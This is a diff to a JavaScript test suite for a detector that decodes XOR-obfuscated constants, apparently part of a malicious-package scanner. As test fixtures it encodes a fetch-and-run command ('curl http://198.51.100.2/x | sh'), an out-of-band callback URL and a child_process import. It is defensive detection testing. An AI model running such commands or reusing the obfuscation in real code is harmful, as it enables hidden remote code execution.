@@ -58,6 +58,17 @@ describe('JS-006 XOR-decoded constants', () => {
     expect(texts.some((t) => t.includes('hooks.slack.com'))).toBe(true);
   });
 
+  it('folds arrow decoders and hoisted decoder functions called before their declaration', async () => {
+    const code = `const url = d(${JSON.stringify(String.fromCharCode(...xor('https://abc.oast.fun/y', [9])))}, 9);
+      const cmd = dec2(${JSON.stringify(xor('curl http://198.51.100.2/x | sh', [4]))});
+      function d(s, k) { let o = ''; for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ k); return o; }
+      const dec2 = (a) => a.map((c) => String.fromCharCode(c ^ 4)).join('');
+      const again = dec2(${JSON.stringify(xor('require("child_process")', [4]))});`;
+    const texts = (await ruleFindings('JS-006', code)).map((f) => String(f.evidence?.decoded));
+    expect(texts.some((t) => t.includes('oast.fun'))).toBe(true);
+    expect(texts.some((t) => t.includes('child_process'))).toBe(true);
+  });
+
   it('makes an install script that evals a XOR-decoded payload malicious', async () => {
     const data = xor("require('https').get('https://x.invalid/p', r => r.pipe(process.stdout))", [0x5a]);
     const code = `const d = ${JSON.stringify(data)}; let s = '';
